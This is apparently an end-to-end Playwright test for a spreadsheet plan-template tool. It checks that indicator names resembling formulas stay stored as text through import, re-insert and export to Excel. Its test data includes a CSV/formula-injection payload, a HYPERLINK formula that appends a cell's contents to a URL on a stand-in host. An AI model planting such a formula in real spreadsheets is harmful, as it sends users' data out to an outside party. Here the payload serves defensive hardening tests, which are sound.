// End-to-end, issue #12 items 1 and 2: text stays text. A plan whose indicator names look like formulas
// (=HYPERLINK(…&J7…), =1+1, +SUM(A1), -2+3, @A1) is imported and inserted; staff type '=2+2 and '=1+1 note
// into plan cells; Insert again keeps them as the text they are (and does not fail); the portable copy with
// native formulas shows every one of them as text, on the copy and on the template, and its computed columns
// are Excel formulas. What a cell holds is read from the formula bar: text starts with ', a formula with =.
import { describe, expect, it } from "vitest";
import type { Page } from "playwright-core";
import type { PlanInput } from "../../src/core/planSchema";
import { cell, goTo, textOf, typeInto } from "./grid";
import { saveScreenshot, usePreview } from "./harness";
import { openPanel } from "./panels";
import { at, readTemplate } from "./template";

const LEAK = '=HYPERLINK("http://x.invalid/?x="&J7,"open")';
/** Names Excel would take for a formula if they went into a cell without the text prefix. */
const FORMULA_NAMES = [LEAK, "=1+1", "+SUM(A1)", "-2+3", "@A1"];
const FIRMS = "High-tech firms";

const indicator = (id: string, name: string, n: number): PlanInput["indicators"][number] => ({
  id,
  number: String(n),
  category: { zh: "企业", en: "Firms" },
  name: { zh: name, en: name },
  unit: { zh: "家", en: "firms" },
  kind: "count",
  direction: "up",
  baseline: 10,
  baselineYear: 2020,
  target: { kind: "level", value: 20, comparator: ">=", obligation: "reach" },
  attribute: "expected",
});

const PLAN: PlanInput = {
  formatVersion: 2,
  id: "formula-looking-names",
  title: { zh: "名称像公式的规划", en: "A plan whose names look like formulas" },
  baseYear: 2020,
  targetYear: 2025,
  indicators: [...FORMULA_NAMES.map((name, i) => indicator(`F${i + 1}`, name, i + 1)), indicator("FIRMS", FIRMS, 6)],
};

const session = usePreview();

/** What the formula bar shows for a cell (text typed with its prefix shows it, as in Excel). */
async function formulaBarOf(page: Page, address: string): Promise<string> {
  await goTo(page, address);
  await cell(page, address).click();
  const bar = page.getByRole("textbox", { name: "Formula bar" });
  await expect.poll(() => page.getByRole("textbox", { name: "Name box" }).inputValue()).toBe(address);
  return bar.inputValue();
}

/** The cell shows `text` and holds it as text (not a formula). */
async function expectText(page: Page, address: string, text: string): Promise<void> {
  expect(await textOf(page, address), address).toBe(text);
  expect(await formulaBarOf(page, address), address).toBe(`'${text}`);
}

describe("hardening: formula-looking text stays text through import, insert, re-insert and the portable copy", () => {
  it("shows every such name and typed '=… text as text on the template and on the native portable copy", async () => {
    const { page, errors } = await session.open("en-US");

    await openPanel(page, "Sharing and other plans");
    await page.getByRole("textbox", { name: "Or paste the plan file's text" }).fill(JSON.stringify(PLAN, null, 2));
    await page.getByRole("button", { name: "Read pasted text" }).click();
    await page.getByText(`Using “${PLAN.title.en}” (6 indicators)`, { exact: false }).waitFor();
    await page.getByRole("button", { name: "Insert template" }).click();
    await page.getByRole("tab", { name: "Plan indicators", selected: true }).waitFor();

    const map = await readTemplate(page);
    for (const name of FORMULA_NAMES) expect(map.rows.has(name), name).toBe(true);
    await typeInto(page, at(map, FIRMS, "2021"), "12");
    await typeInto(page, at(map, FIRMS, "2022"), "15");

    // Text typed with the prefix into plan cells; Insert again keeps it, as text, and does not fail.
    const typedName = at(map, "@A1", "Indicator");
    const typedUnit = at(map, "-2+3", "Unit");
    await typeInto(page, typedName, "'=2+2");
    await typeInto(page, typedUnit, "'=1+1 note");
    await page.getByRole("button", { name: "Insert template" }).click();
    // The refresh says it kept the two cells (and lists them), nothing about a failure.
    await page
      .getByText(/Refreshed “Plan indicators”: 0 indicators added; kept \d+ figures? you entered and 2 cells/)
      .waitFor();
    expect(await page.getByText("The operation did not complete").count()).toBe(0);
    await expectText(page, typedName, "=2+2");
    await expectText(page, typedUnit, "=1+1 note");
    const status = at(map, FIRMS, "Status");
    const templateStatus = await textOf(page, status);
    expect(templateStatus).not.toBe("");

    // The portable copy with native formulas.
    await page.getByRole("radio", { name: "Native Excel formulas (still recalculates)" }).check();
    await page.getByRole("button", { name: "Write portable copy" }).click();
    await page.getByText(/^Wrote the sheet “Plan indicators \(portable\)”/).waitFor();
    await page.getByRole("tab", { name: "Plan indicators (portable)", selected: true }).waitFor();
    const names = FORMULA_NAMES.filter((n) => n !== "@A1").map((name) => [at(map, name, "Indicator"), name]);
    const texts = [...names, [typedName, "=2+2"], [typedUnit, "=1+1 note"]] as const;
    for (const [address, text] of texts) await expectText(page, address, text);
    // Its computed columns are Excel's own formulas, giving what PLAN gives on the template.
    expect(await textOf(page, status)).toBe(templateStatus);
    expect(await formulaBarOf(page, status)).toMatch(/^=IF\(/);
    await saveScreenshot(page, "hardening-portable-copy");

    // And the template still holds them as text.
    await page.getByRole("tab", { name: "Plan indicators", exact: true }).click();
    await page.getByRole("tab", { name: "Plan indicators", selected: true, exact: true }).waitFor();
    for (const [address, text] of texts) await expectText(page, address, text);
    expect(errors).toEqual([]);
  }, 300_000);
});
